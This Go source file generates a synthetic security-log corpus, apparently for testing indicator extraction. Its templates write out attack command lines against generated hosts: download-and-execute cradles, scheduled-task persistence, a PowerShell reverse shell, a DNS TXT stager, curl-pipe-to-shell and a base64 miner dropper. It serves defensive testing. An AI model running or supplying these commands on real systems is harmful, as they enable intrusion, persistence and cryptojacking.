package benchcorpus

import (
	"encoding/base64"
	"strings"
)

// winProc appends a Sysmon EventID 1 process-creation line with a suspicious command line,
// image and parent paths, and MD5/SHA256/IMPHASH hashes.
func (g *Generator) winProc(dst []byte) []byte {
	user := pick(g, users[:])
	parent := pick(g, winTools[:])
	var img string
	c := g.mark()
	switch g.intn(8) {
	case 0, 1:
		u := g.url("")
		d := g.winDrop(dropNames[:])
		c = g.mark()
		if img = pathCertutil; g.intn(2) == 1 {
			img = pathBitsadmin
			g.a = append(g.a, "bitsadmin /transfer myjob /download /priority high "...)
		} else {
			g.a = append(g.a, "certutil.exe -urlcache -split -f "...)
		}
		g.a = append(g.a, g.bytes(u.url)...)
		g.a = append(g.a, ' ')
		g.a = append(g.a, g.bytes(d)...)
		g.plantURL(u, false)
		g.plant("windows_path", d, false, "")
	case 2:
		u := g.url("http")
		img = pathRegsvr32
		c = g.mark()
		g.a = append(g.a, "regsvr32.exe /s /n /u /i:"...)
		g.a = append(g.a, g.bytes(u.url)...)
		g.a = append(g.a, " scrobj.dll"...)
		g.plantURL(u, false)
	case 3:
		ip := g.ipv4(true)
		img = pathNet
		c = g.mark()
		g.a = append(g.a, `net use \\`...)
		g.a = append(g.a, g.bytes(ip)...)
		g.a = append(g.a, `\C$ /user:CORP\`...)
		g.a = append(g.a, user...)
		g.a = append(g.a, " P@ssw0rd!"...)
		g.plant("ipv4", ip, false, "")
	case 4:
		dll := g.winDrop(dropNamesDLL[:])
		img = pathRundll32
		c = g.mark()
		g.a = append(g.a, "rundll32.exe "...)
		g.a = append(g.a, g.bytes(dll)...)
		g.a = append(g.a, ",DllRegisterServer"...)
		g.plant("windows_path", dll, false, "")
	case 5:
		exe := g.winDrop(dropNames[:])
		img = pathSchtasks
		c = g.mark()
		g.a = append(g.a, `schtasks /create /sc minute /mo 15 /tn "MicrosoftEdgeUpdate" /tr "`...)
		g.a = append(g.a, g.bytes(exe)...)
		g.a = append(g.a, `" /f`...)
		g.plant("windows_path", exe, false, "")
	case 6:
		img = pathCmd
		g.a = append(g.a, "cmd.exe /c whoami /all & ipconfig /all & net group domain_admins /domain"...)
	default:
		u := g.url("https")
		img = pathMshta
		c = g.mark()
		g.a = append(g.a, `mshta.exe "`...)
		g.a = append(g.a, g.bytes(u.url)...)
		g.a = append(g.a, '"')
		g.plantURL(u, false)
	}
	cmd := g.since(c)
	md5, sha256, imphash := g.hexHash(32), g.hexHash(64), g.hexHash(32)
	g.plantString("windows_path", img, false)
	g.plantString("windows_path", parent, false)
	g.plantHash("md5", md5)
	g.plantHash("sha256", sha256)
	g.plantHash("md5", imphash)

	dst = g.tsISO(dst)
	dst = append(dst, ' ')
	dst = append(dst, pick(g, hostsWin[:])...)
	dst = append(dst, " Microsoft-Windows-Sysmon EventID=1 ProcessGuid={"...)
	x, y := g.src.Uint64(), g.src.Uint64()
	dst = appendHex(dst, x>>32, 8, hexUpper)
	dst = append(dst, '-')
	dst = appendHex(dst, x>>16, 4, hexUpper)
	dst = append(dst, '-')
	dst = appendHex(dst, x, 4, hexUpper)
	dst = append(dst, '-')
	dst = appendHex(dst, y>>48, 4, hexUpper)
	dst = append(dst, '-')
	dst = appendHex(dst, y, 12, hexUpper)
	dst = append(dst, "} ProcessId="...)
	dst = appendInt(dst, g.between(200, 20000))
	dst = append(dst, ` Image="`...)
	dst = append(dst, img...)
	dst = append(dst, `" CommandLine="`...)
	dst = append(dst, g.bytes(cmd)...)
	dst = append(dst, `" CurrentDirectory="C:\Windows\system32\" User="CORP\`...)
	dst = append(dst, user...)
	dst = append(dst, `" Hashes="MD5=`...)
	dst = append(dst, g.bytes(md5)...)
	dst = append(dst, ",SHA256="...)
	dst = append(dst, g.bytes(sha256)...)
	dst = append(dst, ",IMPHASH="...)
	dst = append(dst, g.bytes(imphash)...)
	dst = append(dst, `" ParentImage="`...)
	dst = append(dst, parent...)
	return append(dst, '"')
}

// psScript appends a PowerShell download cradle, dropper, reverse shell, DNS TXT stager or
// WebClient downloader into the arena, planting its indicators as encoded.
func (g *Generator) psScript() span {
	switch g.intn(5) {
	case 0:
		u := g.url(pick(g, httpSchemes[:]))
		s := g.mark()
		g.a = append(g.a, "IEX (New-Object Net.WebClient).DownloadString('"...)
		g.a = append(g.a, g.bytes(u.url)...)
		g.a = append(g.a, "')"...)
		g.plantURL(u, true)
		return g.since(s)
	case 1:
		u := g.url("https")
		d := g.winDrop(dropNames[:])
		s := g.mark()
		g.a = append(g.a, `Invoke-WebRequest -Uri "`...)
		g.a = append(g.a, g.bytes(u.url)...)
		g.a = append(g.a, `" -OutFile "`...)
		g.a = append(g.a, g.bytes(d)...)
		g.a = append(g.a, `"; Start-Process "`...)
		g.a = append(g.a, g.bytes(d)...)
		g.a = append(g.a, '"')
		g.plantURL(u, true)
		g.plant("windows_path", d, true, "")
		return g.since(s)
	case 2:
		ip := g.ipv4(false)
		s := g.mark()
		g.a = append(g.a, "$c=New-Object System.Net.Sockets.TCPClient('"...)
		g.a = append(g.a, g.bytes(ip)...)
		g.a = append(g.a, "',"...)
		g.a = append(g.a, pick(g, psPorts[:])...)
		g.a = append(g.a, ");$s=$c.GetStream();[byte[]]$b=0..65535|%{0};"+
			"while(($i=$s.Read($b,0,$b.Length)) -ne 0){;$d=(New-Object "+
			"-TypeName System.Text.ASCIIEncoding).GetString($b,0,$i);"+
			"$sb=(iex $d 2>&1 | Out-String );$s.Write($sb,0,$sb.Length)}"...)
		g.plant("ipv4", ip, true, "")
		return g.since(s)
	case 3:
		d := g.mark()
		g.a = append(g.a, pick(g, g.mal)...)
		dom := g.since(d)
		s := g.mark()
		g.a = append(g.a, "$r=Resolve-DnsName -Type TXT "...)
		g.a = append(g.a, g.bytes(dom)...)
		g.a = append(g.a, "; IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($r.Strings)))"...)
		g.plant("domain", dom, true, "")
		return g.since(s)
	default:
		u := g.url("http")
		s := g.mark()
		g.a = append(g.a, "[Net.ServicePointManager]::SecurityProtocol='Tls12';"+
			"$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','"...)
		g.a = append(g.a, pick(g, userAgents[:2])...)
		g.a = append(g.a, "');$w.DownloadFile('"...)
		g.a = append(g.a, g.bytes(u.url)...)
		g.a = append(g.a, `',"$env:TEMP\svc.exe");Start-Process "$env:TEMP\svc.exe"`...)
		g.plantURL(u, true)
		return g.since(s)
	}
}

// powerShellEnc appends a Security 4688 line running powershell.exe with an -EncodedCommand
// (UTF-16LE base64) script.
func (g *Generator) powerShellEnc(dst []byte) []byte {
	script := g.psScript()
	g.plantString("windows_path", pathPowerShell, false)
	dst = g.tsISO(dst)
	dst = append(dst, ' ')
	dst = append(dst, pick(g, hostsWin[:])...)
	dst = append(dst, ` Security EventID=4688 NewProcessName="`+pathPowerShell+`" CommandLine="powershell.exe `...)
	dst = append(dst, pick(g, psOpts[:])...)
	dst = append(dst, ' ')
	dst = append(dst, pick(g, psFlags[:])...)
	dst = append(dst, ' ')
	dst = g.appendBase64UTF16(dst, g.bytes(script))
	dst = append(dst, `" SubjectUserName=`...)
	return append(dst, pick(g, users[:])...)
}

// syslog appends a Linux syslog line: sshd (IPv4 or IPv6), cron download, sudo, postfix
// connect, UFW block or an IPv6 drop.
func (g *Generator) syslog(dst []byte) []byte {
	dst = g.tsSyslog(dst)
	dst = append(dst, ' ')
	dst = append(dst, pick(g, hostsLinux[:])...)
	dst = append(dst, ' ')
	pid := g.between(100, 65000)
	switch g.intn(7) {
	case 0:
		ip := g.ipv4(true)
		g.plant("ipv4", ip, false, "")
		dst = append(dst, "sshd["...)
		dst = appendInt(dst, pid)
		dst = append(dst, "]: Failed password for invalid user "...)
		dst = append(dst, pick(g, users[:])...)
		dst = append(dst, " from "...)
		dst = append(dst, g.bytes(ip)...)
		dst = append(dst, " port "...)
		dst = appendInt(dst, g.between(1024, 65535))
		return append(dst, " ssh2"...)
	case 1:
		ip6 := g.ipv6()
		g.plantIPv6(ip6)
		dst = append(dst, "sshd["...)
		dst = appendInt(dst, pid)
		dst = append(dst, "]: Accepted publickey for "...)
		dst = append(dst, pick(g, users[:])...)
		dst = append(dst, " from "...)
		dst = append(dst, g.bytes(ip6)...)
		dst = append(dst, " port "...)
		dst = appendInt(dst, g.between(1024, 65535))
		dst = append(dst, " ssh2: RSA SHA256:"...)
		var key [32]byte
		for i := 0; i < len(key); i += 8 {
			x := g.src.Uint64()
			for j := range 8 {
				key[i+j] = byte(x >> (8 * j))
			}
		}
		return base64.RawStdEncoding.AppendEncode(dst, key[:])
	case 2:
		u := g.url("http")
		g.plantURL(u, false)
		g.plantString("linux_path", "/usr/bin/curl", false)
		g.plantString("linux_path", "/bin/sh", false)
		dst = append(dst, "CRON["...)
		dst = appendInt(dst, pid)
		dst = append(dst, "]: ("...)
		dst = append(dst, pick(g, users[:])...)
		dst = append(dst, ") CMD (/usr/bin/curl -fsSL "...)
		dst = append(dst, g.bytes(u.url)...)
		return append(dst, " | /bin/sh >/dev/null 2>&1)"...)
	case 3:
		user := pick(g, users[:])
		t := pick(g, sudoTargets[:])
		for _, p := range t.paths {
			g.plantString("linux_path", p, false)
		}
		dst = append(dst, "sudo: "...)
		dst = append(dst, user...)
		dst = append(dst, " : TTY=pts/"...)
		dst = appendInt(dst, g.between(0, 5))
		dst = append(dst, " ; PWD=/home/"...)
		dst = append(dst, user...)
		dst = append(dst, " ; USER=root ; COMMAND="...)
		return append(dst, t.cmd...)
	case 4:
		d := g.mark()
		g.a = g.domain(g.a)
		dom := g.since(d)
		ip := g.ipv4(false)
		g.plant("domain", dom, false, "")
		g.plant("ipv4", ip, false, "")
		dst = append(dst, "postfix/smtpd["...)
		dst = appendInt(dst, pid)
		dst = append(dst, "]: connect from "...)
		dst = append(dst, g.bytes(dom)...)
		dst = append(dst, '[')
		dst = append(dst, g.bytes(ip)...)
		return append(dst, ']')
	case 5:
		src, dstIP := g.ipv4(false), g.ipv4(true)
		g.plant("ipv4", src, false, "")
		g.plant("ipv4", dstIP, false, "")
		dst = append(dst, "kernel: ["...)
		dst = appendInt(dst, g.between(1000, 99999))
		dst = append(dst, '.')
		dst = appendPadded(dst, g.between(0, 999999), 6, '0')
		dst = append(dst, "] [UFW BLOCK] IN=eth0 OUT= MAC="...)
		x, y := g.src.Uint64(), g.src.Uint64()
		for i := range 14 {
			if i > 0 {
				dst = append(dst, ':')
			}
			if i < 8 {
				dst = appendHex(dst, x>>(8*i), 2, hexLower)
			} else {
				dst = appendHex(dst, y>>(8*(i-8)), 2, hexLower)
			}
		}
		dst = append(dst, " SRC="...)
		dst = append(dst, g.bytes(src)...)
		dst = append(dst, " DST="...)
		dst = append(dst, g.bytes(dstIP)...)
		dst = append(dst, " LEN=60 TOS=0x00 PREC=0x00 TTL=47 ID="...)
		dst = appendInt(dst, g.between(1, 65535))
		dst = append(dst, " DF PROTO=TCP SPT="...)
		dst = appendInt(dst, g.between(1024, 65535))
		dst = append(dst, " DPT="...)
		dst = append(dst, pick(g, ufwPorts[:])...)
		return append(dst, " WINDOW=29200 RES=0x00 SYN URGP=0"...)
	default:
		src6, dst6 := g.ipv6(), g.ipv6()
		g.plantIPv6(src6)
		g.plantIPv6(dst6)
		dst = append(dst, "kernel: IPv6 DROP IN=eth0 SRC="...)
		dst = append(dst, g.bytes(src6)...)
		dst = append(dst, " DST="...)
		dst = append(dst, g.bytes(dst6)...)
		dst = append(dst, " PROTO=UDP SPT="...)
		dst = appendInt(dst, g.between(1024, 65535))
		return append(dst, " DPT=53"...)
	}
}

// proxy appends a squid native (50 %) or W3C-style proxy log line.
func (g *Generator) proxy(dst []byte) []byte {
	client := g.ipv4(true)
	u := g.url(pick(g, proxySchemes[:]))
	g.plant("ipv4", client, false, "")
	g.plantURL(u, false)
	if g.percent(50) {
		upstream := g.ipv4(false)
		g.plant("ipv4", upstream, false, "")
		dst = g.epochMillis(dst)
		dst = append(dst, ' ')
		dst = appendPadded(dst, g.between(1, 9000), 6, ' ')
		dst = append(dst, ' ')
		dst = append(dst, g.bytes(client)...)
		dst = append(dst, " TCP_"...)
		dst = append(dst, pick(g, squidResults[:])...)
		dst = append(dst, '/')
		dst = append(dst, pick(g, squidCodes[:])...)
		dst = append(dst, ' ')
		dst = appendInt(dst, g.between(200, 900000))
		dst = append(dst, ' ')
		dst = append(dst, pick(g, squidMethods[:])...)
		dst = append(dst, ' ')
		dst = append(dst, g.bytes(u.url)...)
		dst = append(dst, ' ')
		dst = append(dst, pick(g, users[:])...)
		dst = append(dst, " HIER_DIRECT/"...)
		dst = append(dst, g.bytes(upstream)...)
		dst = append(dst, ' ')
		return append(dst, pick(g, contentTypes[:])...)
	}
	ref := g.url("https")
	g.plantURL(ref, false)
	dst = g.tsISO(dst)
	dst = append(dst, " proxy01 "...)
	dst = append(dst, g.bytes(client)...)
	dst = append(dst, ` "`...)
	dst = append(dst, pick(g, users[:])...)
	dst = append(dst, `" `...)
	dst = append(dst, pick(g, w3cMethods[:])...)
	dst = append(dst, ` "`...)
	dst = append(dst, g.bytes(u.url)...)
	dst = append(dst, `" `...)
	dst = append(dst, pick(g, w3cCodes[:])...)
	dst = append(dst, ' ')
	dst = appendInt(dst, g.between(100, 500000))
	dst = append(dst, ` "`...)
	dst = append(dst, g.bytes(ref.url)...)
	dst = append(dst, `" "`...)
	dst = append(dst, pick(g, userAgents[:])...)
	dst = append(dst, `" category="`...)
	dst = append(dst, pick(g, w3cCategories[:])...)
	return append(dst, '"')
}

// tiNote appends an analyst or threat-intel note with a defanged URL, IPv4 and e-mail address
// and two hashes.
func (g *Generator) tiNote(dst []byte) []byte {
	d := g.mark()
	g.a = append(g.a, pick(g, g.mal)...)
	dom := g.since(d)
	ddom := g.mark()
	g.a = appendDefangDots(g.a, g.bytes(dom))
	defDom := g.since(ddom)

	pathStart := g.mark()
	g.a = g.appendURLPath(g.a)
	path := g.since(pathStart)
	https := g.intn(2) == 1
	us := g.mark()
	g.a = append(g.a, "http"...)
	if https {
		g.a = append(g.a, 's')
	}
	g.a = append(g.a, "://"...)
	g.a = append(g.a, g.bytes(dom)...)
	g.a = append(g.a, g.bytes(path)...)
	url := g.since(us)
	ds := g.mark()
	g.a = append(g.a, pick(g, defangedHTTP[:])...)
	if https {
		g.a = append(g.a, 's')
	}
	g.a = append(g.a, "://"...)
	g.a = append(g.a, g.bytes(defDom)...)
	g.a = append(g.a, g.bytes(path)...)
	durl := g.since(ds)

	oct := g.ipv4Octets(false)
	is := g.mark()
	g.a = appendIPv4(g.a, oct, dots)
	ip := g.since(is)
	dis := g.mark()
	switch g.intn(3) {
	case 0:
		g.a = appendIPv4(g.a, oct, [3]string{".", ".", "[.]"})
	case 1:
		g.a = appendIPv4(g.a, oct, [3]string{"[.]", "[.]", "[.]"})
	default:
		g.a = appendIPv4(g.a, oct, [3]string{".", "[.]", "."})
	}
	dip := g.since(dis)

	em, local, edom := g.email()
	des := g.mark()
	g.a = append(g.a, g.bytes(local)...)
	g.a = append(g.a, pick(g, atForms[:])...)
	dds := g.mark()
	g.a = appendDefangDots(g.a, g.bytes(edom))
	defEdom := g.since(dds)
	dem := g.since(des)

	sha256, sha1 := g.hexHash(64), g.hexHash(40)
	g.plantDefanged("url", url, durl, "")
	g.plantDefanged("domain", dom, defDom, ViaURLHost)
	g.plantDefanged("ipv4", ip, dip, "")
	g.plantDefanged("email", em, dem, "")
	g.plantDefanged("domain", edom, defEdom, ViaEmailDomain)
	g.plantHash("sha256", sha256)
	g.plantHash("sha1", sha1)

	campaign := func(dst []byte) []byte {
		dst = append(dst, "OP-"...)
		dst = append(dst, wordsUpper[g.intn(len(words))]...)
		dst = append(dst, '-')
		return appendInt(dst, g.between(1, 99))
	}
	switch g.intn(3) {
	case 0:
		dst = append(dst, "[TI] "...)
		dst = g.tsISO(dst)
		dst = append(dst, " Campaign "...)
		dst = campaign(dst)
		dst = append(dst, ": C2 "...)
		dst = append(dst, g.bytes(durl)...)
		dst = append(dst, " resolving to "...)
		dst = append(dst, g.bytes(dip)...)
		dst = append(dst, "; lure sent by "...)
		dst = append(dst, g.bytes(dem)...)
		dst = append(dst, "; payload sha256="...)
		dst = append(dst, g.bytes(sha256)...)
		dst = append(dst, " dropper sha1 "...)
		return append(dst, g.bytes(sha1)...)
	case 1:
		dst = append(dst, "Analyst note ("...)
		dst = g.tsISO(dst)
		dst = append(dst, "): blocked "...)
		dst = append(dst, g.bytes(durl)...)
		dst = append(dst, " ("...)
		dst = append(dst, g.bytes(dip)...)
		dst = append(dst, "). Sender: "...)
		dst = append(dst, g.bytes(dem)...)
		dst = append(dst, ". Hashes: "...)
		dst = append(dst, g.bytes(sha1)...)
		dst = append(dst, ", "...)
		dst = append(dst, g.bytes(sha256)...)
		return append(dst, '.')
	default:
		dst = append(dst, "IOC list "...)
		dst = campaign(dst)
		dst = append(dst, " | url: "...)
		dst = append(dst, g.bytes(durl)...)
		dst = append(dst, " | ip: "...)
		dst = append(dst, g.bytes(dip)...)
		dst = append(dst, " | from: "...)
		dst = append(dst, g.bytes(dem)...)
		dst = append(dst, " | sha1: "...)
		dst = append(dst, g.bytes(sha1)...)
		dst = append(dst, " | sha256: "...)
		return append(dst, g.bytes(sha256)...)
	}
}

// corpMailDomain is the recipients' domain in mail lines.
const corpMailDomain = "corp-example.com"

// mail appends a postfix delivery line with sender and recipient addresses and a relay.
func (g *Generator) mail(dst []byte) []byte {
	from, _, fromDom := g.email()
	ts := g.mark()
	g.a = append(g.a, pick(g, firstNames[:])...)
	g.a = append(g.a, '.')
	g.a = append(g.a, pick(g, lastNames[:])...)
	g.a = append(g.a, "@"+corpMailDomain...)
	to := g.since(ts)
	rs := g.mark()
	g.a = g.domain(g.a)
	relay := g.since(rs)
	ip := g.ipv4(false)
	g.plant("email", from, false, "")
	g.plant("domain", fromDom, false, ViaEmailDomain)
	g.plant("email", to, false, "")
	if g.record {
		g.truth = append(g.truth, Truth{Line: g.lineNo, Type: "domain", Value: corpMailDomain, Raw: corpMailDomain, Via: ViaEmailDomain})
	}
	g.plant("domain", relay, false, "")
	g.plant("ipv4", ip, false, "")

	dst = g.tsSyslog(dst)
	dst = append(dst, " mail01 postfix/smtp["...)
	dst = appendInt(dst, g.between(100, 65000))
	dst = append(dst, "]: "...)
	dst = g.hexRun(dst, 10, hexUpper)
	dst = append(dst, ": from=<"...)
	dst = append(dst, g.bytes(from)...)
	dst = append(dst, ">, to=<"...)
	dst = append(dst, g.bytes(to)...)
	dst = append(dst, ">, relay="...)
	dst = append(dst, g.bytes(relay)...)
	dst = append(dst, '[')
	dst = append(dst, g.bytes(ip)...)
	dst = append(dst, "]:25, delay=0."...)
	dst = appendInt(dst, g.between(10, 99))
	dst = append(dst, ", status="...)
	dst = append(dst, pick(g, mailStatus[:])...)
	return append(dst, " (250 2.0.0 OK)"...)
}

// auditd appends an auditd EXECVE record running a binary against a dropped file.
func (g *Generator) auditd(dst []byte) []byte {
	bin := pick(g, linuxBins[:])
	ds := g.mark()
	d := pick(g, linuxDrops[:])
	g.a = append(g.a, d.head...)
	if d.perUser {
		g.a = append(g.a, pick(g, users[:])...)
		g.a = append(g.a, d.tail...)
	}
	drop := g.since(ds)
	sha1 := g.hexHash(40)
	g.plantString("linux_path", bin, false)
	g.plant("linux_path", drop, false, "")
	g.plantHash("sha1", sha1)

	dst = append(dst, "type=EXECVE msg=audit("...)
	dst = g.epochMillis(dst)
	dst = append(dst, ':')
	dst = appendInt(dst, g.between(1000, 999999))
	dst = append(dst, `): argc=3 a0="`...)
	dst = append(dst, bin...)
	dst = append(dst, `" a1="-x" a2="`...)
	dst = append(dst, g.bytes(drop)...)
	dst = append(dst, `" exe_sha1=`...)
	dst = append(dst, g.bytes(sha1)...)
	dst = append(dst, " auid="...)
	dst = appendInt(dst, g.between(0, 1005))
	dst = append(dst, ` uid=0 comm="`...)
	dst = append(dst, bin[strings.LastIndexByte(bin, '/')+1:]...)
	return append(dst, '"')
}

// linuxB64 appends an auditd EXECVE record of `bash -c 'echo <base64> | base64 -d | bash'`
// whose UTF-8 script downloads and starts a miner.
func (g *Generator) linuxB64(dst []byte) []byte {
	u := g.url(pick(g, httpSchemes[:]))
	drop := pick(g, minerDrops[:])
	ps := g.mark()
	g.a = append(g.a, "pool."...)
	g.a = append(g.a, pick(g, g.mal)...)
	pool := g.since(ps)
	ss := g.mark()
	g.a = append(g.a, "(curl -fsSL "...)
	g.a = append(g.a, g.bytes(u.url)...)
	g.a = append(g.a, " || wget -q -O- "...)
	g.a = append(g.a, g.bytes(u.url)...)
	g.a = append(g.a, ") > "...)
	g.a = append(g.a, drop...)
	g.a = append(g.a, "; chmod +x "...)
	g.a = append(g.a, drop...)
	g.a = append(g.a, "; "...)
	g.a = append(g.a, drop...)
	g.a = append(g.a, " -o "...)
	g.a = append(g.a, g.bytes(pool)...)
	g.a = append(g.a, ":3333 &"...)
	script := g.since(ss)
	g.plantURL(u, true)
	g.plantString("linux_path", drop, true)
	g.plant("domain", pool, true, "")
	g.plantString("linux_path", "/bin/bash", false)

	dst = append(dst, "type=EXECVE msg=audit("...)
	dst = g.epochMillis(dst)
	dst = append(dst, ':')
	dst = appendInt(dst, g.between(1000, 999999))
	dst = append(dst, `): argc=3 a0="/bin/bash" a1="-c" a2="echo `...)
	dst = base64.StdEncoding.AppendEncode(dst, g.bytes(script))
	return append(dst, ` | base64 -d | bash"`...)
}

// flow6 appends a firewall flow line between two IPv6 addresses.
func (g *Generator) flow6(dst []byte) []byte {
	a, b := g.ipv6(), g.ipv6()
	g.plantIPv6(a)
	g.plantIPv6(b)
	dst = g.tsISO(dst)
	dst = append(dst, " fw-edge flow proto=tcp src=["...)
	dst = append(dst, g.bytes(a)...)
	dst = append(dst, "]:"...)
	dst = appendInt(dst, g.between(1024, 65535))
	dst = append(dst, " dst=["...)
	dst = append(dst, g.bytes(b)...)
	dst = append(dst, "]:"...)
	dst = append(dst, pick(g, flowPorts[:])...)
	dst = append(dst, " bytes="...)
	dst = appendInt(dst, g.between(40, 1000000))
	dst = append(dst, " action="...)
	return append(dst, pick(g, flowActions[:])...)
}

// noise appends a benign line that plants nothing (versions, session starts, job timers).
func (g *Generator) noise(dst []byte) []byte {
	switch g.intn(3) {
	case 0:
		dst = g.tsISO(dst)
		dst = append(dst, ' ')
		dst = append(dst, pick(g, hostsWin[:])...)
		dst = append(dst, " Application EventID=1000 Faulting application name: app.exe, version: 10.0."...)
		dst = appendInt(dst, g.between(10000, 22000))
		dst = append(dst, '.')
		return appendInt(dst, g.between(1, 3000))
	case 1:
		dst = g.tsSyslog(dst)
		dst = append(dst, ' ')
		dst = append(dst, pick(g, hostsLinux[:])...)
		dst = append(dst, " systemd[1]: Started Session "...)
		dst = appendInt(dst, g.between(1, 9999))
		dst = append(dst, " of user "...)
		dst = append(dst, pick(g, users[:])...)
		return append(dst, '.')
	default:
		dst = g.tsISO(dst)
		dst = append(dst, " scheduler job="...)
		dst = append(dst, pick(g, words[:])...)
		dst = append(dst, '-')
		dst = appendInt(dst, g.between(1, 99))
		dst = append(dst, " duration_ms="...)
		dst = appendInt(dst, g.between(1, 99999))
		return append(dst, " status=ok"...)
	}
}
